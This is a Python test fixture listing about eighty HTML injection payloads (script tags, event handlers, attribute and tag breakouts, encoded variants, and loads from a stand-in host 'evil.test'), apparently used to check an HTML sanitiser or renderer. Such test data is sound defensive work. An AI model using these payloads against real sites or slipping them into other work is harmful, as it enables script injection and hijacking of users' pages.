"""What somebody may write to make a page run, load or go somewhere it should not.

`{n}` numbers a payload; `ran(n)` is a function that the test's browser has and
that tells which one ran. `evil.test` leads nowhere and is listened for.
"""

from __future__ import annotations

_TEMPLATES = r"""
<script>ran({n})</script>
<SCRIPT SRC=//evil.test/{n}.js></SCRIPT>
<script src="data:text/javascript,ran({n})"></script>
<script type=module>ran({n})</script>
<img src=x onerror=ran({n})>
<img src=//evil.test/{n}.png>
<img srcset="//evil.test/{n}.png 1x">
<svg onload=ran({n})>
<svg><script>ran({n})</script></svg>
<svg><animate onbegin=ran({n}) attributeName=x dur=1s>
<svg><image href=//evil.test/{n}.png /></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=ran({n})>#x"></svg>
<svg><style><img src=x onerror=ran({n})></style></svg>
<svg><foreignObject><img src=x onerror=ran({n})></foreignObject></svg>
<math><mtext><mglyph><style><img src=x onerror=ran({n})>
<body onload=ran({n})>
<iframe srcdoc="<script>parent.ran({n})</script>"></iframe>
<iframe src="javascript:parent.ran({n})"></iframe>
<iframe src=//evil.test/{n}></iframe>
<object data=//evil.test/{n}></object>
<embed src=//evil.test/{n}>
<object data="javascript:ran({n})"></object>
<video><source onerror=ran({n})></video>
<video poster=//evil.test/{n}.png></video>
<audio src=x onerror=ran({n})></audio>
<audio src=//evil.test/{n}.ogg autoplay></audio>
<track src=//evil.test/{n}.vtt>
<details open ontoggle=ran({n})>
<input autofocus onfocus=ran({n})>
<select autofocus onfocus=ran({n})>
<textarea autofocus onfocus=ran({n})>
<button popovertarget=x onclick=ran({n})>
<marquee onstart=ran({n})>
<div onanimationstart=ran({n}) style="animation:x 1s"><style>@keyframes x{}</style>
<link rel=stylesheet href=//evil.test/{n}.css>
<link rel=icon href=//evil.test/{n}.ico>
<link rel=preload as=image href=//evil.test/{n}.png>
<link rel=prefetch href=//evil.test/{n}>
<style>@import "//evil.test/{n}.css";</style>
<style>body{background:url(//evil.test/{n}.png)}</style>
<div style="background:url(//evil.test/{n}.png)">
<meta http-equiv=refresh content="0;url=//evil.test/{n}">
<meta http-equiv="refresh" content="0; url=data:text/html,<script>ran({n})</script>">
<base href=//evil.test/{n}/>
<form action=//evil.test/{n}><button autofocus>
<form id=f action=//evil.test/{n}></form><img src=x onerror=f.submit()>
<template><img src=x onerror=ran({n})></template>
<noscript><p title="</noscript><img src=x onerror=ran({n})>">
</textarea><img src=x onerror=ran({n})>
</title><script>ran({n})</script>
</script><script>ran({n})</script>
</style><img src=x onerror=ran({n})>
--><img src=x onerror=ran({n})><!--
]]><img src=x onerror=ran({n})>
"><img src=x onerror=ran({n})>
'><img src=x onerror=ran({n})>
" onmouseover=ran({n}) autofocus onfocus=ran({n}) x="
' onfocus=ran({n}) autofocus x='
" style="animation:x" onanimationstart="ran({n})
`><img src=x onerror=ran({n})>
javascript:ran({n})
<a href="javascript:ran({n})" id=a{n}>a</a><img src=x onerror=a{n}.click()>
{{ ran({n}) }}
${ran({n})}
{% raw %}<img src=x onerror=ran({n})>{% endraw %}
&lt;img src=x onerror=ran({n})&gt;
&#60;img src=x onerror=ran({n})&#62;
\u003cimg src=x onerror=ran({n})\u003e
%3Cimg src=x onerror=ran({n})%3E
<img/src=x/onerror=ran({n})>
<img	src=x	onerror=ran({n})>
<ImG sRc=x OnErRoR=ran({n})>
<<img src=x onerror=ran({n})>
<img src=x onerror=ran({n})//
<script>/*</script>*/ran({n})</script>
<portal src=//evil.test/{n}>
<x onclick=ran({n}) tabindex=1 autofocus onfocus=ran({n})>x</x>
‮<img src=x onerror=ran({n})>
ﾠ<img src=x onerror=ran({n})>
<b>{n}</b><script>eval("ran({n})")</script>
"""

# One a line; braces of templates stay as they are.
PAYLOADS: list[str] = [
    line.replace("{n}", str(n)) for n, line in enumerate(_TEMPLATES.strip("\n").split("\n"))
]
